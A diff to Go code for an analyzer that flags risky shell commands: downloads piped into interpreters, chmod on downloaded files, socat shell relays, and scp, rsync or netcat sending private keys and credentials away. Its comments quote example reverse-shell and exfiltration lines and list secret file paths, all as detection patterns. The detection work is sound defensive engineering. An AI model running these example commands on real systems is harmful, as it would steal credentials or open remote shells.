@@ -164,10 +164,19 @@ func (z *Analyzer) optionIs(k, e int, o option) bool {
 }
 
 // letterRun reports whether word k, in a command that ends at e, is a
-// whole shell word of a few letters ("nve" of "-nve", at most maxLetters;
-// not "-p4444", "-o-" or "-x.y").
+// whole shell word of a few letters after one dash ("nve" of "-nve");
+// not "-p4444", "-o-", "-x.y" or "--help".
 func (z *Analyzer) letterRun(k, e int) bool {
-	return z.words[k].letters == len(z.tok(k)) && len(z.tok(k)) <= maxLetters && z.shellWordEnd(k, e) == k+1
+	return z.shortLetters(k) && z.shellWordEnd(k, e) == k+1
+}
+
+// shortLetters reports whether word k is one letter or a few, at most
+// maxLetters, after one dash: short options, alone or run together, or
+// one with its value joined ("-c", "-ne", "-mjson"); not a long option's
+// name ("--help", "--crlf").
+func (z *Analyzer) shortLetters(k int) bool {
+	w := &z.words[k]
+	return w.letters == len(z.tok(k)) && len(z.tok(k)) <= maxLetters && w.shell&shellLong == 0
 }
 
 // namesShell reports whether the shell word that begins at word k, in a
@@ -235,7 +244,7 @@ func (z *Analyzer) programAt(i, b int) bool {
 }
 
 // maxPipeline bounds how many commands before it in a pipeline
-// runsDownload looks through for the download an interpreter runs ("curl
+// runsUnreadCode looks through for the download an interpreter runs ("curl
 // … | grep -v '#' | tr -d '\r' | bash").
 const maxPipeline = 4
 
@@ -244,8 +253,8 @@ const maxPipeline = 4
 // chmod +x x.sh").
 const maxSteps = 4
 
-// runsDownload reports whether word i is an interpreter that runs code it
-// was not shown as its program: substitutesDownload; or a download, a
+// runsUnreadCode reports whether word i is an interpreter that runs code
+// no one has read as its program: substitutesDownload; or a download, a
 // decoded blob or a connection to another machine pipes into it, in the
 // command before it or a few before that ("curl -s https://… | bash",
 // "wget -qO- … | sudo sh", "iwr … | iex", "curl … | grep -v '#' | sh",
@@ -257,7 +266,7 @@ const maxSteps = 4
 // a script file as its first argument tells it to run something else
 // ("| python3 -m json.tool", "| perl -ne …", "| python3 parse.py"; "|
 // python - data.csv" runs what it reads).
-func (z *Analyzer) runsDownload(i int, own []option) bool {
+func (z *Analyzer) runsUnreadCode(i int, own []option) bool {
 	b, e := z.command(i)
 	if z.wholeName(i) && z.substitutes(i, e) { // substitutesDownload, with the command found once
 		return true
@@ -346,9 +355,12 @@ func (z *Analyzer) firstArgument(i, e int) int {
 // savedBefore reports whether the file that the shell word [k, end) names
 // is one a download saved in one of the maxSteps commands before the one
 // that begins at word b: in that command, the value of an output option
-// (outputOptions) is that name, or a shell word ends with it after a '/'
-// ("curl -o x.sh …", "wget https://…/x.sh", "curl -O https://…/x.sh" for
-// "bash x.sh", "./x.sh", "/tmp/x.sh"; not "curl is a tool… Perl is").
+// (outputOptions) or of a '>' is that name ("curl -o x.sh …", "curl … >
+// x.sh"), or the download saves under the name its URL ends with
+// (savesByName) and a shell word ends with it after a '/' ("wget
+// https://…/x.sh", "curl -O https://…/x.sh"), for "bash x.sh", "./x.sh",
+// "/tmp/x.sh"; not "curl is a tool… Perl is", "curl -I https://…/x.py;
+// python3 x.py".
 func (z *Analyzer) savedBefore(b, k, end int) bool {
 	name := end - 1 // the name's first word: after the path's last '/'
 	for name > k && z.words[name].joint != '/' {
@@ -358,14 +370,17 @@ func (z *Analyzer) savedBefore(b, k, end int) bool {
 	for steps, at := 0, b; steps < maxSteps && at > 0; steps++ {
 		pb, pe := z.command(at - 1)
 		at = pb
-		if !z.downloadsIn(pb, pe) {
+		d := z.downloadAt(pb, pe)
+		if d < 0 {
 			continue
 		}
+		byName := z.savesByName(d, pe)
 		output := false // the shell word before is an output option
 		for s := pb; s < pe; {
 			se := z.shellWordEnd(s, pe)
 			from := se - n
-			if from >= s && (from > s && z.words[from].joint == '/' || from == s && output) && z.sameWords(name, from, n) {
+			named := from > s && z.words[from].joint == '/' && byName || from == s && (output || z.words[s].prev == '>')
+			if from >= s && named && z.sameWords(name, from, n) {
 				return true
 			}
 			output = z.isOption(s) && z.isOneOf(s, pe, outputOptions)
@@ -391,16 +406,39 @@ func (z *Analyzer) isOneOf(k, e int, options []option) bool {
 	return false
 }
 
-// downloadsIn reports whether the command [b, e) holds a download
-// (downloads) as a whole name.
-func (z *Analyzer) downloadsIn(b, e int) bool {
+// downloadAt returns the first word of the command [b, e) that is a
+// download (downloads) as a whole name, or -1.
+func (z *Analyzer) downloadAt(b, e int) int {
 	for k := b; k < e; k++ {
 		if hasWord(downloads, z.tok(k)) && z.wholeName(k) {
-			return true
+			return k
+		}
+	}
+	return -1
+}
+
+// savesByName reports whether the download at word d, in a command that
+// ends at e, saves what it fetches under the name its URL ends with:
+// wget does unless it pipes it on ("wget -qO- … | sh"); curl with "-O"
+// or "--remote-name", or a run of letters with an 'o' in it (the tokens
+// keep no case, so "-sLO" and "-sLo" read alike; "-o" names the file
+// itself, which savedBefore reads too).
+func (z *Analyzer) savesByName(d, e int) bool {
+	switch string(z.tok(d)) {
+	case "wget":
+		return e >= len(z.words) || z.words[e].shell&shellPipe == 0
+	case "curl":
+		for k := d + 1; k < e; k = z.shellWordEnd(k, e) {
+			if z.isOption(k) && (z.shortLetters(k) && bytes.IndexByte(z.tok(k), 'o') >= 0 || z.isOneOf(k, e, remoteName)) {
+				return true
+			}
 		}
 	}
 	return false
 }
+
+// remoteName is curl's long option to save under the URL's name.
+var remoteName = []option{{name: "remote-name"}, {name: "remote-name-all"}}
 
 // sameWords reports whether the n words from a and from b are the same
 // words joined the same way.
@@ -414,14 +452,19 @@ func (z *Analyzer) sameWords(a, b, n int) bool {
 }
 
 // makesRunnable reports whether word i, chmod as the program of its
-// command, makes runnable a file a download saved a few commands before
-// (savedBefore): "curl -o /tmp/p https://… && chmod +x /tmp/p".
+// command, gives its owner the right to run (runMode) a file a download
+// saved a few commands before (savedBefore): "curl -o /tmp/p https://… &&
+// chmod +x /tmp/p", "chmod 755 /tmp/p"; not "chmod 600 key.pem".
 func (z *Analyzer) makesRunnable(i int) bool {
 	b, e := z.command(i)
 	if !z.programAt(i, b) {
 		return false
 	}
-	for k := z.shellWordEnd(i, e); k < e; {
+	mode := z.firstArgument(i, e)
+	if mode >= e || !z.runMode(mode, z.shellWordEnd(mode, e)) {
+		return false
+	}
+	for k := z.shellWordEnd(mode, e); k < e; {
 		end := z.shellWordEnd(k, e)
 		if !z.isOption(k) && z.savedBefore(b, k, end) {
 			return true
@@ -431,16 +474,42 @@ func (z *Analyzer) makesRunnable(i int) bool {
 	return false
 }
 
+// runMode reports whether the shell word [k, end), a mode of chmod,
+// gives its owner the right to run: an 'x' after a '+' ("+x", "u+x",
+// "a+rx") or an octal mode whose owner's digit is odd ("755", "0700").
+func (z *Analyzer) runMode(k, end int) bool {
+	for j := k; j < end; j++ {
+		t, w := z.tok(j), &z.words[j]
+		if (w.prev == '+' || w.joint == '+') && bytes.IndexByte(t, 'x') >= 0 {
+			return true
+		}
+	}
+	t := z.tok(k)
+	if end != k+1 || len(t) < 3 || len(t) > 4 || z.words[k].letters != 0 {
+		return false
+	}
+	owner := t[len(t)-3]
+	return owner == '1' || owner == '3' || owner == '5' || owner == '7'
+}
+
 // relays reports whether word i, socat, is given an address of one of
-// kinds, which runs a program ("socat exec:'bash -li',pty
-// tcp:host:4444", "socat TCP:host:4444 SYSTEM:sh").
+// kinds that runs a shell (shells, by name or path): "socat exec:'bash
+// -li',pty tcp:host:4444", "socat TCP:host:4444 SYSTEM:sh"; not "socat …
+// EXEC:'python3 handler.py'", nor prose about the "EXEC:" address.
 func (z *Analyzer) relays(i int, kinds []string) bool {
 	_, e := z.command(i)
 	if !z.wholeName(i) {
 		return false
 	}
-	for k := i + 1; k < e; k++ {
-		if z.words[k].next == ':' && z.words[k].shell&shellSpace != 0 && hasWord(kinds, z.tok(k)) {
+	for k := i + 1; k+1 < e; k++ {
+		if z.words[k].next != ':' || z.words[k].shell&shellSpace == 0 || !hasWord(kinds, z.tok(k)) {
+			continue
+		}
+		p := k + 1 // the program: the last part of its path ("/bin/sh")
+		for p+1 < e && z.words[p+1].joint == '/' && z.words[p+1].shell&shellSpace == 0 {
+			p++
+		}
+		if hasWord(shells, z.tok(p)) {
 			return true
 		}
 	}
@@ -481,7 +550,7 @@ func (z *Analyzer) ownCode(i, e int, own []option) bool {
 			return last > k && z.words[last].joint == '.' && hasWord(scriptExtensions, z.tok(last))
 		}
 		t := z.tok(k)
-		letters := z.words[k].letters == len(t) && len(t) <= maxLetters // one or a few letters: "-c", "-ne", "-mjson"
+		letters := z.shortLetters(k)
 		for _, o := range own {
 			long := len(o.name) > 1 && string(t) == o.name
 			short := len(o.name) == 1 && letters && bytes.IndexByte(t, o.name[0]) >= 0
@@ -513,50 +582,76 @@ func (z *Analyzer) hasOption(i, e int, options []option) bool {
 	return false
 }
 
-// secrets are the words of a path that name a secret: the directories of
-// SSH, cloud and GnuPG keys, a private key's file ("id_rsa"), a login's
-// ("netrc", "pgpass"), a shell's history, a password store's; as a part
-// of a file's name or path (".ssh", "id_rsa", "/etc/shadow",
-// "credentials.db"), not as a word of prose.
-var secrets = []string{"ssh", "aws", "azure", "gcloud", "gnupg", "kube", "netrc", "pgpass", "rsa", "ed25519", "ecdsa",
-	"history", "credentials", "shadow", "kdbx", "keychain"}
+// dotSecrets are the hidden files and directories that hold secrets, by
+// the name after their '.': SSH's, cloud and Kubernetes keys, GnuPG's,
+// logins' and an app's environment (".ssh", ".aws", ".netrc", ".env").
+var dotSecrets = []string{"ssh", "aws", "azure", "gnupg", "kube", "netrc", "pgpass", "env"}
+
+// secretFiles are other names of a path that hold a secret, each after
+// the word and the mark that must join them to it: a private key's file
+// ("id_rsa"), a shell's history ("bash_history"), the system's hashed
+// passwords ("/etc/shadow"), cloud and git credentials
+// (".aws/credentials", ".git-credentials"), a KeePass database
+// ("vault.kdbx"; "" for any word before).
+var secretFiles = []struct {
+	joint        byte
+	before, name string
+}{
+	{'_', "id", "rsa"}, {'_', "id", "ed25519"}, {'_', "id", "ecdsa"}, {'_', "id", "dsa"},
+	{'_', "bash", "history"}, {'_', "zsh", "history"}, {'_', "python", "history"}, {'_', "psql", "history"}, {'_', "mysql", "history"},
+	{'/', "etc", "shadow"}, {'/', "aws", "credentials"}, {'-', "git", "credentials"}, {'.', "", "kdbx"},
+}
+
+// copyValueOptions are the one-letter options of scp and rsync whose
+// value is no file to copy, in lower case as tokens are: an identity, a
+// configuration ("-F"), an option, a remote shell, a port ("-P"), a jump
+// host, a filter ("-i ~/.ssh/deploy_key", "-e 'ssh -i …'").
+var copyValueOptions = []byte("ifoepjslc")
 
 // copiesSecret reports whether word i, a copy program (scp, rsync) as a
-// whole name (wholeName), copies a secret (secrets; not a public key,
-// ".pub") to another machine (a shell word with "host:" in it) in its
-// command: "scp ~/.ssh/id_rsa user@host:/tmp/", "rsync -az ~/.gnupg/
-// u@h:/keys/"; not "scp dist/app.tgz deploy@host:/srv/", "scp
-// ~/.ssh/id_rsa.pub host:~/.ssh/authorized_keys", "rsync -a ~/.ssh/
-// /mnt/usb/". A prose sentence may lead into the command ("Then rsync
-// …").
+// whole name (wholeName), copies a secret away in its command: a file
+// that holds a secret (secretIn) comes before a place on another machine
+// (remoteAt), the copy's destination: "scp ~/.ssh/id_rsa user@host:/tmp/",
+// "rsync -az ~/.gnupg/ u@h.example:/keys/"; not "scp dist/app.tgz
+// deploy@host:/srv/", "scp -i ~/.ssh/deploy_key dist/app.tgz
+// u@host:/srv/" (an option's value), "scp ~/.ssh/id_rsa.pub
+// u@host:~/.ssh/authorized_keys" (a public key), "scp
+// admin@bastion:~/.ssh/config ~/.ssh/config" (a copy in), "rsync -a
+// ~/.ssh/ /mnt/usb/". A prose sentence may lead into the command or
+// follow it ("Then rsync …", "… u@h:/tmp/ for the sync").
 func (z *Analyzer) copiesSecret(i int) bool {
 	_, e := z.command(i)
 	if !z.wholeName(i) {
 		return false
 	}
-	secret, remote := false, false
+	secret := false // a file so far holds a secret
 	for k := z.shellWordEnd(i, e); k < e; {
 		end := z.shellWordEnd(k, e)
-		if !z.isOption(k) {
-			switch {
-			case z.remoteIn(k, end):
-				remote = true
-			case z.secretIn(k, end):
-				secret = true
+		switch {
+		case z.isOption(k):
+			if t := z.tok(k); end == k+1 && len(t) == 1 && bytes.IndexByte(copyValueOptions, t[0]) >= 0 {
+				end = z.shellWordEnd(end, e) // its value
 			}
+		case z.remoteAt(k, end):
+			if secret {
+				return true
+			}
+		case z.secretIn(k, end):
+			secret = true
 		}
 		k = end
 	}
-	return secret && remote
+	return false
 }
 
 // fedSecret reports whether word i, a netcat (netcats) as the program of
-// its command, is given a secret (secretIn) to send: in its command
-// ("nc host 4444 < ~/.ssh/id_rsa") or in one of the commands that pipe
-// into it ("tar czf - ~/.ssh | nc host 7000", "cat /etc/passwd | nc …").
+// its command, has a secret (secretIn) in its command ("nc host 4444 <
+// ~/.ssh/id_rsa"; "nc -l 4444 > ~/.ssh/authorized_keys" plants a key) or
+// in one of the commands that pipe into it ("tar czf - ~/.ssh | nc host
+// 7000", "cat ~/.aws/credentials | nc …").
 func (z *Analyzer) fedSecret(i int) bool {
 	b, e := z.command(i)
-	if !z.programAt(i, b) {
+	if !hasWord(netcats, z.tok(i)) || !z.programAt(i, b) {
 		return false
 	}
 	for n := 0; n <= maxPipeline; n++ {
@@ -575,28 +670,43 @@ func (z *Analyzer) fedSecret(i int) bool {
 	return false
 }
 
-// remoteIn reports whether the shell word [k, end) names a place on
-// another machine: a word followed by ':' ("host:/path", "u@h:").
-func (z *Analyzer) remoteIn(k, end int) bool {
+// remoteAt reports whether the shell word [k, end) names a place on
+// another machine: a user and a host, or a host with a dot in its name,
+// then ':' before any '/' ("u@h:/path", "backup.example.net:", "u@10.0.0.1:";
+// not "/backup/x-%H:%M/", nor prose's "anywhere:").
+func (z *Analyzer) remoteAt(k, end int) bool {
 	for j := k; j < end; j++ {
+		if j > k && (z.words[j].joint == '/' || z.words[j].shell&shellSpace != 0) {
+			return false
+		}
 		if z.words[j].next == ':' {
-			return true
+			for h := k + 1; h <= j; h++ {
+				if z.words[h].joint == '@' || z.words[h].joint == '.' {
+					return true
+				}
+			}
+			return false
 		}
 	}
 	return false
 }
 
 // secretIn reports whether the shell word [k, end) is a path with a
-// secret in it (secrets), and no public key (".pub" at its end).
+// secret in it (dotSecrets, secretFiles), and no public key (".pub" at
+// its end).
 func (z *Analyzer) secretIn(k, end int) bool {
 	if last := end - 1; last > k && z.words[last].joint == '.' && string(z.tok(last)) == "pub" {
 		return false
 	}
 	for j := k; j < end; j++ {
-		w := &z.words[j]
-		inPath := w.prev == '.' || w.prev == '/' || w.joint == '_' || w.joint == '.' || w.joint == '/'
-		if inPath && hasWord(secrets, z.tok(j)) {
-			return true
+		w, t := &z.words[j], z.tok(j)
+		if w.prev == '.' && w.joint == 0 && w.shell&shellStop == 0 && hasWord(dotSecrets, t) {
+			return true // ".ssh", "~/.aws", "/home/u/.gnupg"; not "… done. SSH"
+		}
+		for _, f := range secretFiles {
+			if w.joint == f.joint && string(t) == f.name && j > k && (f.before == "" || string(z.tok(j-1)) == f.before) {
+				return true
+			}
 		}
 	}
 	return false
